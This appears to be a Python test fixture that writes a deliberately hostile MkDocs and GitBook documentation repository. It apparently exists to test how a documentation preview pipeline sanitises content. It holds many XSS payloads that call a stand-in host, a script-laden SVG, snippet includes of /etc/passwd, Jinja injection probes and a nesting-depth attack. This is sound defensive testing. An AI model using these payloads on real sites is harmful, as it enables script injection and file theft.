"""A documentation of MkDocs whose authors try everything, a kind a page, and drawings that do."""

import json
from pathlib import Path

from documentation_scene import Content, Documentation
from git_history import History
from preview_scene import SETTINGS
from publishing_scene import TAG

AWAY = "https://ailleurs.exemple.invalid"
RUN = f"window.harmed=1;document.title='harmed';fetch('{AWAY}/x')"
SCRIPT = f"<script>{RUN}</script>"
IMG = f'<img src=x onerror="{RUN}">'


def _given(value: object) -> str:
    """A value in YAML, whatever signs it has."""
    return json.dumps(value, ensure_ascii=False)


DRAWING = f"""<?xml version="1.0"?>
<?xml-stylesheet href="{AWAY}/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="{RUN}">
<script>{RUN}</script><style>@import url({AWAY}/b.css); path {{ fill: url({AWAY}/c) }}</style>
<a xlink:href="javascript:{RUN}"><text y="9">Un dessin</text></a>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{RUN}"/></foreignObject>
<image href="{AWAY}/d.png"/><use href="{AWAY}/e.svg#x"/><set attributeName="href" to="javascript:{RUN}"/>
<path d="M0 0h9v9" style="fill: red"/></svg>
"""
SETTINGS_OF_DOCS: dict[str, object] = {
    "site_name": f"Docs {SCRIPT}",
    "site_description": f'"><script>{RUN}</script>',
    "copyright": SCRIPT,
    "extra_javascript": ["piege.js", f"{AWAY}/x.js"],
    "extra_css": ["style.css", f'x.css" onload="{RUN}', f"{AWAY}/y.css", "/z.css"],
    "theme": {"name": "material", "custom_dir": "docs", "logo": f'" onerror="{RUN}', "font": {"text": "x"}},
    "extra": {"homepage": f"javascript:{RUN}", "alternate": [{"name": "x", "link": f"javascript:{RUN}"}]},
    "nav": [
        {"Accueil": "index.md"},
        {f"Lien {IMG}": f"javascript:{RUN}"},
        {"Autre casse": f"JaVaScRiPt:{RUN}"},
        {"Attribut": f'https://exemple.fr/" onmouseover="{RUN}'},
        {"Données": f"data:text/html,{SCRIPT}"},
        {"Ailleurs": "https://exemple.fr/page"},
        {f"Titre {SCRIPT}": "titre.md"},
        "description.md",
        {"Nouvelles": "nouvelles.md"},
        {f"Partie {IMG}": [{"Dessin": "dessin.svg"}, "../../secret.md"]},
    ],
    "markdown_extensions": [
        "attr_list", "md_in_html", "admonition", "pymdownx.superfences", "pymdownx.arithmatex",
        {"toc": {"permalink": SCRIPT}}, {"footnotes": {"BACKLINK_TEXT": SCRIPT}},
        {"pymdownx.snippets": {"base_path": "/", "url_download": True}},
        {"pymdownx.emoji": {"options": {"custom_icons": ["/"]}}},
    ],
}  # fmt: skip
TITLE, STATUS = _given(f'</title>{SCRIPT}" onload="{RUN}'), _given(f'" onclick="{RUN}')
PAGES: dict[str, str] = {
    "titre.md": f"---\ntitle: {TITLE}\n---\n\n# Titre {IMG} &lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\n",
    "entites.md": f"# Content-Security-Policy &lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\n\n{SCRIPT}\n",
    "description.md": f'---\ndescription: \'0;url={AWAY}" http-equiv="refresh" x="\'\n---\n\n# Description\n',
    "modele.md": f"---\ntemplate: partials/content.html\nicon: '{AWAY}'\nstatus: {STATUS}\nimage: {AWAY}/i.png\n---\n\n# Modèle\n\n{SCRIPT}\n",
    "renvoi.md": f"---\ntemplate: redirect.html\nlocation: javascript:{RUN}\n---\n\n# Renvoi\n",
    "sans-tirets.md": f"template: redirect.html\nlocation: {AWAY}\n\n# Sans tirets\n",
    "rafraichir.md": f'# Rafraîchir\n\n<meta http-equiv="refresh" content="0;url={AWAY}">\n<base href="{AWAY}/"><link rel="stylesheet" href="{AWAY}/z.css">\n\nFin.\n',
    "html.md": f"""# HTML

{IMG} {SCRIPT} <svg onload="{RUN}"><script>{RUN}</script></svg>

<div id="__config">{{"base": "{AWAY}", "features": [], "search": "{AWAY}/w.js"}}</div>
<iframe src="{AWAY}"></iframe><iframe srcdoc="{SCRIPT}"></iframe><object data="{AWAY}"></object><embed src="{AWAY}">
<form action="{AWAY}"><button formaction="javascript:{RUN}">x</button></form><img src="{AWAY}/p.png"><video poster="{AWAY}/v" src="//ailleurs.exemple.invalid/v">
</video><p style="position:fixed;background:url({AWAY}/s)">style</p><style>@import url({AWAY}/t.css);</style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><details open ontoggle="{RUN}"><summary>x</summary></details>

!!! note "{SCRIPT}"
    {IMG}

``` {{ .python title="{SCRIPT}" onclick="{RUN}" }}
print()
```

<pre class="mermaid">graph TD; A--&gt;B</pre>
<div class="arithmatex">\\(x\\)</div> $$x$$ :material-account: :smile:

<div markdown="1" onclick="{RUN}">
**gras** {IMG}
</div>
</article></body><script>{RUN}</script>
""",
    "liens.md": f"""# Liens

[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](&#106;avascript:alert) <a href="java&#9;script:{RUN}">d</a> <a href="&#1;javascript:{RUN}">e</a>
[f](data:text/html,{SCRIPT}) [g](vbscript:x) <a href="javascript&colon;{RUN}">h</a> [i]{{: href="javascript:{RUN}" onclick="{RUN}" }}
<javascript:alert(1)> [j][k] ![x](javascript:{RUN}){{ onerror="{RUN}" }}

[k]: javascript:{RUN}
""",
    "sommaire.md": f'# Sommaire\n\n## Un {{: data-toc-label="<img src=x onerror={RUN}>" onclick="{RUN}" }}\n\n### Deux {IMG} &lt;img src=x onerror={RUN}&gt;\n\n#### Trois\n',
    "extraits.md": f'# Extraits\n\n--8<-- "/etc/passwd"\n\n--8<-- "{AWAY}/x.md"\n\n--8<-- "../mkdocs.yml"\n',
    "jinja.md": "# Jinja\n\n{{ config }} {% include 'base.html' %} {{ ''.__class__.__mro__ }} {% raw %}\n\n7+7 = {{ 7+7 }}\n",
    "<img src=x onerror=window.harmed=1>.md": "Une page sans titre.\n",
    "fin.markdown": f"---\ntemplate: redirect.html\nlocation: {AWAY}\n---\n{SCRIPT}\n",
    "profond.md": "<div>" * 20_000,
}
FILES: dict[str, Content] = {
    "mkdocs.yml": _given(SETTINGS_OF_DOCS),
    "docs/index.md": "# Accueil\n\n![Un dessin](dessin.svg) [le même](dessin.svg)\n",
    "docs/nouvelles.md": "# Dernières nouveautés\n",
    "docs/style.css": f"@import url({AWAY}/css); body {{ background: url({AWAY}/bg) }}\n",
    "docs/dessin.svg": DRAWING,
    "docs/faux.png": f"<html>{SCRIPT}</html>",
    "docs/page.html": SCRIPT, "docs/page.xhtml": SCRIPT, "docs/page.xht": SCRIPT, "docs/piege.js": RUN, "docs/sans-nom": f"<html>{SCRIPT}",
    "docs/main.html": f"{SCRIPT}{{{{ config }}}}", "docs/assets/javascripts/bundle.js": RUN, "docs/search/search_index.json": "{}",
    **{f"docs/{name}": text for name, text in PAGES.items()},
}  # fmt: skip


GITBOOK: dict[str, Content] = {
    "SUMMARY.md": f"# Table\n\n* [Accueil](README.md)\n* [Lien {IMG}](javascript:{RUN})\n* [{SCRIPT}](titre.md)\n* [x](data:text/html,a)\n\n## {IMG}\n\n* [D](html.md)\n",
    "README.md": "# Accueil\n\n![Un dessin](.gitbook/assets/dessin.svg) [le même](.gitbook/assets/dessin.svg) [page](page.html)\n",
    "nouvelles.md": "# Dernières nouveautés\n",
    ".gitbook/assets/dessin.svg": DRAWING,
    "page.html": SCRIPT,
    **PAGES,
}
KINDS = {
    "mkdocs": (FILES, "docs/nouvelles.md", "dessin.svg"),
    "gitbook": (GITBOOK, "nouvelles.md", "fichiers/gitbook/assets/dessin.svg"),
}
"""Each flavour's files, its page of news, and its drawing on the site."""


def written(folder: Path, kind: str) -> Path:
    """A product with a delivery to show, and its hostile documentation; the clone's folder."""
    files, news, _ = KINDS[kind]
    docs = Documentation(folder / "documentation.git").begin()
    docs.commit(files)
    history = History(folder / "clone")
    history.merge(100, branch="9-premiers-pas", title="Les premiers pas")
    history.day(TAG)
    history.tag(TAG)
    history.settings(SETTINGS.format(docs=docs.folder).replace("[calendar]", f'page = "{news}"\n[calendar]'))
    return history.ready()
